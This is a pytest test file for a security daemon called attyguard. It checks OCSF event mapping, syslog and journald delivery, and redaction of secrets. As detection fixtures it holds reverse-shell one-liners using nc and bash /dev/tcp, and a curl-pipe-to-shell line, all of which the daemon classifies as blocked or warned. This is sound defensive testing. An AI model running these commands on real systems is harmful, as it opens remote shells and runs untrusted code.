"""Fleet events: OCSF mapping (tables) and delivery to a real rsyslog on 127.0.0.1."""

from __future__ import annotations

import json
import os
import shutil
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from attyguard.daemon.config import parse_daemon_config
from attyguard.fleet.ocsf import OCSF_VERSION, Product, to_ocsf
from attyguard.fleet.sink import FleetSink, SinkError, format_5424, parse_address
from tests.daemon_harness import RunningDaemon, remove_tmpdirs, short_tmpdir, wait_for
from tests.rsyslog_harness import Rsyslog

PRODUCT = Product("9.9", "host1")


@pytest.fixture(autouse=True)
def _clean_tmpdirs() -> Iterator[None]:
    yield
    remove_tmpdirs()


@pytest.mark.parametrize(("kind", "record", "class_uid", "activity_id", "severity_id", "action"), [
    ("verdict", {"time": 1.5, "pid": 7, "uid": 1000, "line": "ls -l", "action": "allow",
                 "rules": []}, 1007, 1, 1, "Allowed"),
    ("exec", {"time": 2, "pid": 8, "ppid": 7, "uid": 0, "program": "/usr/bin/id",
              "argv": ["id", "-u"], "action": "allow", "rung": "fanotify"}, 1007, 1, 1,
     "Allowed"),
    ("verdict", {"time": 3, "pid": 7, "uid": 1000, "line": "nc -e /bin/sh 10.0.0.1 9",
                 "action": "block", "rules": ["reverse-shell.nc-exec", "x.y"],
                 "reason": "Reverse shell", "severity": "critical"}, 2004, 1, 5, "Denied"),
    ("verdict", {"time": 3, "pid": 7, "uid": 1000, "line": "curl https://x | sh",
                 "action": "warn", "rules": ["download-exec.pipe"], "severity": "medium"},
     2004, 1, 3, "Allowed"),
    ("mark", {"time": 4, "pid": 7, "uid": 1000, "level": "critical", "reason": "blocked"},
     2004, 1, 5, "Allowed"),
    ("violation", {"time": 5, "pid": 9, "process": "web", "exe": "/usr/bin/python3",
                   "type": "syscall", "detail": "ptrace", "severity": "CRITICAL",
                   "action": "block", "mode": "enforce"}, 2004, 1, 5, "Denied"),
])
def test_ocsf_mapping(kind: str, record: dict[str, Any], class_uid: int, activity_id: int,
                      severity_id: int, action: str) -> None:
    event = to_ocsf(kind, record, PRODUCT)
    assert event is not None
    assert event["class_uid"] == class_uid and event["activity_id"] == activity_id
    assert event["type_uid"] == class_uid * 100 + activity_id
    assert event["severity_id"] == severity_id
    assert event["action"] == action
    assert event["metadata"]["version"] == OCSF_VERSION
    assert event["metadata"]["product"]["name"] == "attyguard"
    assert event["device"]["hostname"] == "host1"
    assert event["time"] == int(float(record["time"]) * 1000)
    process = event["process"] if class_uid == 1007 else event["evidences"][0]["process"]
    assert process["pid"] == record["pid"]
    if class_uid == 2004:
        rules = record.get("rules")
        if rules:
            assert event["finding_info"]["analytic"]["uid"] == rules[0]
        assert event["finding_info"]["title"]


def test_clear_closes_and_unknown_kinds_are_skipped() -> None:
    event = to_ocsf("clear", {"time": 1, "pid": 3}, PRODUCT)
    assert event is not None and event["activity_name"] == "Close"
    assert event["status"] == "Resolved"
    assert to_ocsf("something-internal", {"time": 1}, PRODUCT) is None


@pytest.mark.parametrize("text", ["udp://h", "tcp://:5", "http://x:1", "unix:rel", "udp://h:0",
                                  "tcp://h:70000"])
def test_bad_addresses(text: str) -> None:
    with pytest.raises(SinkError):
        parse_address(text)


def test_bad_address_in_config_is_located() -> None:
    _, errors = parse_daemon_config('[events]\nsink = "syslog"\nsyslog_address = "udp://x"\n',
                                    "/etc/a.toml")
    assert errors and str(errors[0]).startswith("/etc/a.toml:3:")


def test_rfc5424_header() -> None:
    event = to_ocsf("verdict", {"time": 0.25, "pid": 1, "action": "block", "rules": ["r"],
                                "severity": "high"}, PRODUCT)
    assert event is not None
    data = format_5424(event, facility=10, hostname="h", procid=42).decode()
    # PRI = authpriv(10) * 8 + err(3): OCSF High
    assert data.startswith("<83>1 1970-01-01T00:00:00.250Z h attyguard 42 ocsf.2004 - {")
    assert json.loads(data.split(" - ", 1)[1])["class_uid"] == 2004


def test_a_dead_receiver_never_blocks_send() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]  # closed again: nobody listens there
    sink = FleetSink("syslog", f"tcp://127.0.0.1:{port}", capacity=5)
    try:
        for n in range(50):
            sink.send({"class_uid": 1007, "n": n})
        assert sink.counters["dropped"] >= 40
        wait_for(lambda: sink.counters["errors"] > 0, 10, "a send error to be counted")
    finally:
        sink.close(timeout=0.5)


@pytest.mark.parametrize("transport", ["udp", "tcp"])
def test_daemon_events_reach_a_real_rsyslog(transport: str) -> None:
    if shutil.which("rsyslogd") is None and not os.path.exists("/usr/sbin/rsyslogd"):
        pytest.skip("rsyslogd is not installed (contrib/dev.sh test installs it)")
    directory = short_tmpdir()
    receiver = Rsyslog(directory, transport)
    daemon = RunningDaemon(directory, config_text=(
        f'[events]\nsink = "syslog"\nsyslog_address = "{transport}://127.0.0.1:{receiver.port}"\n'
        'facility = "local3"\n'))
    try:
        receiver.wait_listening(transport)
        daemon.start()
        assert daemon.call("classify", line="ls -la")["ok"]
        assert daemon.call("classify", line="mysql -uroot -pS3cretPw -e 'select 1'")["ok"]
        assert daemon.call("classify", line="bash -i >& /dev/tcp/127.0.0.1/9 0>&1")["ok"]
        got = wait_for(lambda: len(receiver.messages()) >= 3 and receiver.messages(), 20,
                       "three events at rsyslog", daemon.log)
    finally:
        daemon.stop()
        receiver.stop()
    events = [json.loads(m.split(" - ", 1)[1]) for m in got]
    assert all(" attyguard " in m and ">1 " in m for m in got)  # RFC 5424 headers
    by_line = {e.get("process", e.get("evidences", [{}])[0].get("process", {})).get("cmd_line"): e
               for e in events}
    assert by_line["ls -la"]["class_uid"] == 1007
    blocked = by_line["bash -i >& /dev/tcp/127.0.0.1/9 0>&1"]
    assert blocked["class_uid"] == 2004 and blocked["action"] == "Denied"
    assert not any("S3cretPw" in m for m in got)
    pri = int(got[-1].split(">", 1)[0].lstrip("<"))
    assert pri // 8 == 19  # local3


def test_journald_native_datagram(tmp_path: Path) -> None:
    # journald is not running on these machines: read the native protocol off a real
    # datagram socket at the path the sink is pointed at, as journald would.
    path = tmp_path / "journal.sock"
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as receiver:
        receiver.bind(str(path))
        receiver.settimeout(10)
        sink = FleetSink("journald", str(path))
        try:
            event = to_ocsf("verdict", {"time": 1, "pid": 5, "line": "echo 'a\nb'",
                                        "action": "block", "rules": ["r"],
                                        "severity": "high"}, PRODUCT)
            assert event is not None
            sink.send(event)
            data = receiver.recv(65536)
        finally:
            sink.close()
    head, _, rest = data.partition(b"MESSAGE\n")
    fields = dict(line.split("=", 1) for line in head.decode().splitlines())
    assert fields["SYSLOG_IDENTIFIER"] == "attyguard" and fields["PRIORITY"] == "3"
    assert fields["OCSF_CLASS_UID"] == "2004"
    size = int.from_bytes(rest[:8], "little")
    message = json.loads(rest[8:8 + size])
    assert rest[8 + size:] == b"\n"
    assert message["evidences"][0]["process"]["cmd_line"] == "echo 'a\nb'"
